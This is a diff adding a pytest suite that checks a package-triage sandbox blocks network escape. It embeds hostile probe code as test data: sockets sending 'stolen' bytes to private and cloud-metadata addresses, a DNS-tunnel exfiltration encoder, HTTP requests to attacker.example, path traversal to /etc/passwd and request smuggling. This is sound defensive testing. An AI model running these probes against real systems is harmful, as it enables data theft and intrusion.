@@ -1,0 +1,325 @@
+"""A package reaches nothing but a read-only view of the index, and every attempt is refused at once and reported."""
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import Snakehook
+from hostile import add_probe, assert_nothing_is_left, findings, last_json, targets
+from standins import Index, Reply, redirect
+
+pytestmark = pytest.mark.unmet
+
+
+@pytest.fixture(params=["as root", "as an ordinary user"])
+def program(request: pytest.FixtureRequest, jail: None) -> Snakehook:
+    if request.param == "as root" and os.geteuid() != 0:
+        pytest.skip("needs root")
+    found: Snakehook = request.getfixturevalue("snakehook" if request.param == "as root" else "ordinary")
+    return found
+
+
+def probe(program: Snakehook, index: Index, source: str) -> tuple[Any, dict[str, Any]]:
+    """What a module that begins with hostile.PROBES said when it was imported, and the report; nothing is left."""
+    add_probe(index, source)
+    _, report, _ = program.triage("probe", "--mode", "import", RUN_TIMEOUT_SEC=20)
+    assert report["outcome"] == "ok", report["reason"]
+    nothing_is_left(program)
+    return last_json(report), report
+
+
+def nothing_is_left(program: Snakehook) -> None:
+    places = program.environment
+    assert_nothing_is_left(Path(places["STATE_DIR"]), Path(places["PIP_CACHE_DIR"]))
+
+
+# --- addresses --------------------------------------------------------------------------------------------------------
+
+# Private, link-local, metadata, documentation, loopback and multicast.
+ADDRESSES = [
+    "10.0.0.1",
+    "172.16.0.1",
+    "192.168.1.1",
+    "169.254.169.254",
+    "100.100.100.200",
+    "192.0.2.1",
+    "127.0.0.2",
+    "224.0.0.1",
+]
+ADDRESSES += ["::1", "fd00:ec2::254", "fe80::1", "2001:db8::1", "::ffff:169.254.169.254"]
+
+CONNECT = """
+def reach(kind, host, port):
+    def probe():
+        family = socket.AF_INET6 if ":" in host else socket.AF_INET
+        with socket.socket(family, kind) as one:
+            one.settimeout(15)
+            one.connect((host, port))
+            one.send(b"stolen")
+            one.recv(10)
+    return probe
+began = time.monotonic()
+probes = {}
+for host in HOSTS:
+    for name, kind in (("tcp", socket.SOCK_STREAM), ("udp", socket.SOCK_DGRAM)):
+        probes[f"{name} {host}"] = reach(kind, host, PORT)
+probes["abstract"] = lambda: socket.socket(socket.AF_UNIX).connect("\\0NAME")
+probes["bus"] = lambda: socket.socket(socket.AF_UNIX).connect("/run/dbus/system_bus_socket")
+probes["raw"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()
+probes["icmp"] = lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()
+probes["icmp6"] = lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58).close()
+def ping():
+    one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
+    one.sendto(b"\\x08" + bytes(7), ("192.0.2.1", 0))
+probes["ping"] = ping
+def route():
+    one = socket.socket(16, socket.SOCK_RAW, 0)  # netlink: the jail's own namespace only, and no right to change it
+    one.bind((0, 0))
+    one.send(struct.pack("=IHHII", 28, 24, 5, 1, 0) + struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0))
+    answer = one.recv(4096)
+    code = struct.unpack_from("=i", answer, 16)[0]
+    if code: raise OSError(-code, "netlink")
+probes["route"] = route
+results = {name: attempt(what) for name, what in probes.items()}
+print(json.dumps({"results": results, "seconds": time.monotonic() - began}))
+"""
+
+
+def test_no_address_can_be_reached_and_every_try_is_refused_at_once_and_reported(
+    program: Snakehook, index: Index
+) -> None:
+    port = int(index.origin.rpartition(":")[2])  # of a server that does listen on this machine
+    import socket
+
+    with socket.socket(socket.AF_UNIX) as neighbour:
+        neighbour.bind("\0snakehook-neighbour")
+        neighbour.listen()
+        local = {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), port) if isinstance(info[4][0], str)}
+        source = CONNECT.replace("HOSTS", repr([*ADDRESSES, "127.0.0.1", *local])).replace("PORT", str(port))
+        seen, report = probe(program, index, source.replace("NAME", "snakehook-neighbour"))
+    assert {what: got for what, got in seen["results"].items() if got in ("it worked", "TimeoutError")} == {}
+    assert seen["seconds"] < 10  # 30 probes that wait would take 15 s each
+    reported = targets(report)
+    for host in ADDRESSES:
+        assert any(host.rpartition(":")[2] in one for one in reported), host
+    assert any("snakehook-neighbour" in one for one in reported)
+    assert len(findings(report, "network.attempt")) >= len(ADDRESSES)
+
+
+TUNNEL = """
+import base64
+secret = base64.b32encode(b"stolen goods " * 4).decode().strip("=").lower()
+name = ".".join(secret[at:at + 40] for at in range(0, len(secret), 40)) + ".tunnel.example"
+def question(kind):
+    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
+    return b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0" + bytes([kind]) + b"\\0\\1"
+def udp(kind):
+    def ask():
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+            one.settimeout(10)
+            one.sendto(question(kind), ("127.0.0.1", 53))
+            answer = one.recv(4096)
+            return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
+    return ask
+def tcp():
+    with socket.create_connection(("127.0.0.1", 53), timeout=10) as one:
+        one.sendall(len(question(16)).to_bytes(2, "big") + question(16))
+        answer = one.recv(4096)[2:]
+        return [answer[3] & 15, int.from_bytes(answer[6:8], "big")]
+def foreign():
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
+        one.sendto(question(1), ("192.0.2.53", 53))
+print(json.dumps({"name": name, "a": attempt(udp(1)), "txt": attempt(udp(16)), "tcp": attempt(tcp),
+                  "foreign": attempt(foreign)}))
+"""
+
+
+def test_dns_carries_nothing_out_and_nothing_in_over_udp_and_tcp(program: Snakehook, index: Index) -> None:
+    seen, report = probe(program, index, TUNNEL)
+    assert seen["a"] == seen["txt"] == seen["tcp"] == [3, 0]  # NXDOMAIN, without an answer
+    assert seen["foreign"] == "ENETUNREACH"
+    assert seen["name"] in targets(report, ["dns"])
+    assert any("192.0.2.53" in one for one in targets(report))
+    assert not [path for _, path in index.requests if "tunnel" in path]
+
+
+@pytest.mark.parametrize("question", [b"", b"\0" * 11, b"\0" * 12, b"\xff" * 4000, b"\0" * 12 + b"\xc0\x0c\0\1\0\1"])
+def test_a_malformed_question_does_not_stop_the_resolver(program: Snakehook, index: Index, question: bytes) -> None:
+    source = f"""
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one: one.sendto({question!r}, ("127.0.0.1", 53))
+with socket.create_connection(("127.0.0.1", 53)) as one:
+    one.sendall(len({question!r}).to_bytes(2, "big") + {question!r})
+tell(after=lambda: socket.getaddrinfo("after.example", 80))
+"""
+    seen, report = probe(program, index, source)
+    assert seen["after"] == "gaierror" or isinstance(seen["after"], str)
+    assert "after.example" in targets(report, ["dns"])
+
+
+# --- the index --------------------------------------------------------------------------------------------------------
+
+ASK = """
+def ask(request):
+    def probe():
+        with socket.create_connection(("127.0.0.1", 3141), timeout=10) as one:
+            one.sendall(request)
+            answer = one.recv(65536)
+            return answer.split()[1].decode() if answer else "closed"
+    return probe
+"""
+REQUESTS = {
+    "post": b"POST /simple/calm/ HTTP/1.1\r\nContent-Length: 6\r\n\r\nstolen",
+    "put": b"PUT /simple/calm/ HTTP/1.1\r\n\r\n",
+    "head": b"HEAD /simple/calm/ HTTP/1.1\r\n\r\n",
+    "connect": b"CONNECT attacker.example:443 HTTP/1.1\r\n\r\n",
+    "absolute": b"GET http://attacker.example/simple/calm/ HTTP/1.1\r\n\r\n",
+    "query": b"GET /simple/calm/?stolen=goods HTTP/1.1\r\n\r\n",
+    "fragment": b"GET /simple/calm/#stolen HTTP/1.1\r\n\r\n",
+    "body": b"GET /simple/calm/ HTTP/1.1\r\nContent-Length: 6\r\n\r\nstolen",
+    "long header": b"GET /simple/calm/ HTTP/1.1\r\nX-Stolen: " + b"x" * 20_000 + b"\r\n\r\n",
+    "long name": b"GET /simple/" + b"x" * 300 + b"/ HTTP/1.1\r\n\r\n",
+    "up": b"GET /simple/../../etc/passwd HTTP/1.1\r\n\r\n",
+    "encoded up": b"GET /simple/%2e%2e/ HTTP/1.1\r\n\r\n",
+    "capitals": b"GET /simple/Calm/ HTTP/1.1\r\n\r\n",
+    "a file that no page named": b"GET /files/" + b"0" * 64 + b"/calm-1.0.tar.gz HTTP/1.1\r\n\r\n",
+    "a file above": b"GET /files/" + b"0" * 64 + b"/../../x HTTP/1.1\r\n\r\n",
+    "split": b"GET /simple/calm/\r\nHost: x\r\n\r\n",
+    "old": b"GET /simple/calm/ HTTP/1.0\r\n\r\n",
+    "nothing": b"\r\n\r\n",
+    "not text": b"\xff\x00\xfe\r\n\r\n",
+    "not canonical": b"GET /simple/evil--dep/ HTTP/1.1\r\n\r\n",
+    "denied": b"GET /simple/evil-dep/ HTTP/1.1\r\n\r\n",
+    "smuggled": b"GET /simple/calm/ HTTP/1.1\r\n\r\nGET /simple/evil-dep/ HTTP/1.1\r\n\r\n",
+}
+
+
+def test_the_index_answers_nothing_but_a_plain_get(program: Snakehook, index: Index) -> None:
+    index.add_wheel("calm", "1.0", {"calm.py": ""})
+    index.add_wheel("evil-dep", "1.0", {"evil.py": ""})
+    index.answer("/simple/evil--dep/", redirect("/simple/evil-dep/"))  # as a real index does
+    source = ASK + f"tell(**{{name: ask(request) for name, request in {REQUESTS!r}.items()}})"
+    prelude = f"""
+import os
+from pathlib import Path
+if not os.path.exists("/home/dev/asked"):
+    exec({("import sys; sys.stdout = open('/home/dev/asked', 'w')" + chr(10)) + _probes() + source!r})
+    sys.stdout.close()
+    sys.stdout = sys.__stdout__
+"""
+    index.add_backend_sdist("asker", "1.0", prelude, {"asker.py": "print(open('/home/dev/asked').read())"})
+    _, report, _ = program.triage("asker", "--mode", "import", PACKAGE_DENYLIST="Evil.Dep")
+    seen = last_json(report)
+    smuggled, body = seen.pop("smuggled"), seen.pop("body")
+    assert {what: got for what, got in seen.items() if got not in ("400", "403", "404", "closed")} == {}
+    assert smuggled in ("400", "closed")
+    assert body in ("400", "closed")
+    asked = {path for _, path in index.requests}
+    assert asked <= {"/simple/pip/", "/simple/asker/", "/simple/calm/", "/files/asker-1.0.tar.gz"}, asked
+    notes = "\n".join(report["coverage"]["notes"])
+    for what in ("POST", "PUT", "CONNECT", "stolen=goods", "evil-dep"):
+        assert what in notes, what
+    nothing_is_left(program)
+
+
+def _probes() -> str:
+    from hostile import PROBES
+
+    return PROBES
+
+
+def test_the_index_is_not_there_when_the_package_runs(program: Snakehook, index: Index) -> None:
+    source = ASK + "tell(index=ask(b'GET /simple/probe/ HTTP/1.1\\r\\n\\r\\n'))"
+    before = len(index.requests)
+    seen, report = probe(program, index, source)
+    assert seen == {"index": "ECONNREFUSED"}
+    assert "127.0.0.1:3141" in targets(report, ["tcp"])
+    assert [path for _, path in index.requests[before:]].count("/simple/probe/") == 1  # pip's own
+
+
+@pytest.mark.parametrize(
+    "location",
+    ["http://127.0.0.1:9/elsewhere", "file:///etc/passwd", "//169.254.169.254/", "http://[", "ftp://127.0.0.1/"],
+)
+@pytest.mark.parametrize("path", ["/simple/lured/", "/files/lured-1.0-py3-none-any.whl"])
+def test_a_redirect_to_elsewhere_is_refused(
+    jail: None, snakehook: Snakehook, index: Index, path: str, location: str
+) -> None:
+    index.add_wheel("lured", "1.0", {"lured.py": ""})
+    index.entry("lured", core_metadata=None)
+    index.answer(path, redirect(location))
+    _, report, _ = snakehook.triage("lured", RUN_TIMEOUT_SEC=20)
+    assert report["outcome"] == "failed"
+    assert report["downloads"] == []
+    assert [note for note in report["coverage"]["notes"] if "refused" in note]
+    nothing_is_left(snakehook)
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"filename": "../../lured-1.0-py3-none-any.whl"},
+        {"filename": "..", "url": "/files/lured-1.0-py3-none-any.whl"},
+        {"filename": "lured-1.0-py3-none-any.whl/../x"},
+        {"filename": "lured-1.0\n-py3-none-any.whl"},
+        {"url": "http://127.0.0.1:9/files/lured-1.0-py3-none-any.whl"},
+        {"url": "http://user@127.0.0.1:9/x"},
+        {"url": "file:///etc/passwd"},
+        {"hashes": {"sha256": "0" * 63}},
+        {"hashes": {"sha256": "../" * 21 + "x"}},
+        {"hashes": {"md5": "0" * 32}},
+    ],
+    ids=repr,
+)
+def test_a_file_with_an_odd_name_host_or_hash_is_not_offered(
+    jail: None, snakehook: Snakehook, index: Index, fields: dict[str, Any]
+) -> None:
+    entry = index.add_wheel("lured", "1.0", {"lured.py": ""})
+    entry.update(fields)
+    _, report, _ = snakehook.triage("lured", RUN_TIMEOUT_SEC=20)
+    assert (report["outcome"], report["downloads"]) == ("failed", [])
+    assert [note for note in report["coverage"]["notes"] if "bad link" in note]
+    nothing_is_left(snakehook)
+
+
+def test_a_wrong_sha256_is_reported_and_leaves_nothing_in_the_cache(
+    jail: None, snakehook: Snakehook, index: Index, tmp_path: Path
+) -> None:
+    index.add_wheel("swapped", "1.0", {"swapped.py": ""})
+    index.entry("swapped", core_metadata=None)
+    index.answer("/files/swapped-1.0-py3-none-any.whl", Reply(200, b"another file"))
+    _, report, _ = snakehook.triage("swapped", RUN_TIMEOUT_SEC=20)
+    assert (report["outcome"], report["downloads"]) == ("failed", [])
+    assert any("sha256" in note for note in report["coverage"]["notes"])
+    assert not [path for path in (tmp_path / "cache").rglob("*") if path.is_file()]
+
+
+# --- the denylist -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("how", ["a dependency of a dependency", "an extra", "a build requirement", "a direct link"])
+def test_the_denylist_holds_for_what_is_pulled_in_however_it_is_spelled(
+    jail: None, snakehook: Snakehook, index: Index, how: str
+) -> None:
+    index.add_wheel("evil-dep", "1.0", {"evil.py": ""})
+    match how:
+        case "a dependency of a dependency":
+            index.add_wheel("middle", "1.0", {"middle.py": ""}, requires=["EVIL_.-dep>=0"])
+            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle"])
+        case "an extra":
+            extra = {"Provides-Extra": "more"}
+            index.add_wheel("middle", "1.0", {"middle.py": ""}, requires=["Evil.Dep; extra == 'more'"], metadata=extra)
+            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=["middle[more]"])
+        case "a build requirement":
+            project = '[build-system]\nrequires = ["EVIL__dep"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+            index.add_sdist("outer", "1.0", {"pyproject.toml": project, "backend.py": "", "outer.py": ""})
+        case "a direct link":
+            link = f"evil-dep @ {index.origin}/files/evil_dep-1.0-py3-none-any.whl"
+            index.add_wheel("outer", "1.0", {"outer.py": ""}, requires=[link])
+    _, report, _ = snakehook.triage("outer", PACKAGE_DENYLIST="Evil_Dep", RUN_TIMEOUT_SEC=20)
+    assert report["outcome"] == "failed"
+    assert not [one for one in report["downloads"] if "evil" in one["file"]]
+    assert not [path for _, path in index.requests if "evil" in path]
+    if how != "a direct link":
+        assert "evil-dep is on the denylist" in "\n".join([report["reason"], *report["coverage"]["notes"]])
+    nothing_is_left(snakehook)
